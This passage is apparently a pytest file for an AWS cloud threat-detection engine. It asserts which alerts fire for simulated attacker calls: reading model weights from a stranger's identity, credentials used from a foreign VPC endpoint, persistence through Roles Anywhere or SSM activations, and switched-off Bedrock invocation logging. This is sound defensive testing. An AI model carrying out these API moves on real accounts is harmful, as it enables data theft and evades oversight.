    ("securityhub", "BatchUpdateFindings", {"Workflow": {"Status": "NOTIFIED"}}, MALLORY),
    ("guardduty", "CreateFilter", OF_ONE_KIND, role("ci-deploy")),
    ("fsx", "CreateDataRepositoryAssociation", {"s3": {"autoImportPolicy": {"events": ["NEW"]}}}, MALLORY),
    ("athena", "StartQueryExecution", {"resultConfiguration": {"expectedBucketOwner": OURS}}, MALLORY),
]


@pytest.mark.parametrize(("source", "name", "request_", "identity"), HONEST)
def test_the_honest_call_beside_it_is_quiet(source: str, name: str, request_: Any, identity: Any) -> None:
    assert hunted(source, name, request_, estate.read(DECLARED, "test"), identity) == set()


@pytest.mark.parametrize(
    ("detection", "source", "name", "request_"),
    [
        (CERTIFICATES, "rolesanywhere", "CreateProfile", {"roleArns": [ADMINISTRATOR]}),
        (CERTIFICATES, "rolesanywhere", "DeleteCrl", {"crlId": "x"}),
        (MACHINE, "ssm", "CreateActivation", {"iamRole": "fleet"}),
    ],
)
def test_a_door_that_lasts_is_told_of_a_pipeline_too(detection: str, source: str, name: str, request_: Any) -> None:
    assert detection in hunted(source, name, request_, Estate(), role("github-deploy"))


def test_a_key_that_root_makes_for_itself_is_no_key_for_another() -> None:
    root = {"type": "Root", "arn": f"arn:aws:iam::{OURS}:root", "accountId": OURS, "accessKeyId": "ASIAEXAMPLE"}
    found = hunted("iam", "CreateAccessKey", None, Estate(), root)
    assert ROOT_KEY in found
    assert LOGIN not in found


def test_weights_in_a_directory_bucket_are_weights() -> None:
    request = {"bucketName": "acme-weights", "key": "llama/model-00001-of-00006.safetensors"}
    found = hunted("s3express", "GetObject", request, estate.read(DECLARED, "test"))
    assert found == {"exfiltration/weights_read_by_stranger"}


def test_a_host_behind_an_endpoint_is_at_home_where_only_public_networks_are_declared() -> None:
    host = role("serving")
    host["arn"] = host["arn"].replace("/x", "/i-0123456789abcdef0")
    ours = estate.read(DECLARED, "test")
    through = {"sourceIPAddress": "10.0.3.4", "vpcEndpointId": "vpce-0abc"}
    assert hunted("ssm", "UpdateInstanceInformation", {}, ours, host, **through) == set()
    theirs = hunted("ssm", "UpdateInstanceInformation", {}, ours, host, **through, vpcEndpointAccountId=STRANGER)
    assert theirs == {"credential_access/instance_credentials_used_away"}


@pytest.mark.parametrize(
    ("detection", "source", "name", "request_"),
    [row for row in EVIL if row[0] in (SHUT_OUT, UNRECORDED, REDIRECTED, HIDDEN)],
)
def test_what_is_told_here_is_not_told_twice(detection: str, source: str, name: str, request_: Any) -> None:
    assert hunted(source, name, request_, Estate()) - {detection} <= {ELSEWHERE}


def test_invocation_logs_without_texts_are_told_as_switched_off_only() -> None:
    request = {"loggingConfig": {"s3Config": {"bucketName": "loot"}, "textDataDeliveryEnabled": False}}
    assert hunted("bedrock", "PutModelInvocationLoggingConfiguration", request, Estate()) == {UNSEEN}


@pytest.mark.parametrize(
    "names",
    [
        ("ListAgents", "GetAgent", "ListPrompts", "GetPrompt"),
        ("ListCustomModels", "GetCustomModel", "ListImportedModels", "GetImportedModel"),
        ("ListGuardrails", "GetGuardrail", "ListKnowledgeBases", "ListModels"),
    ],
)
def test_models_agents_and_prompts_are_looked_through_in_either_service(names: tuple[str, ...]) -> None:
    def asked(identity: Any) -> set[str]:
        questions = [
            recorded(
                "sagemaker" if name == "ListModels" else "bedrock",
                name,
                {},
                identity,
                eventID=f"00000000-0000-4000-8000-{number:012}",
                readOnly=True,
            )
            for number, name in enumerate(names)
        ]
        return told(questions, Estate())

    assert asked(MALLORY) == {"discovery/model_registry_looked_through"}
    assert asked(role("assistant")) == set()
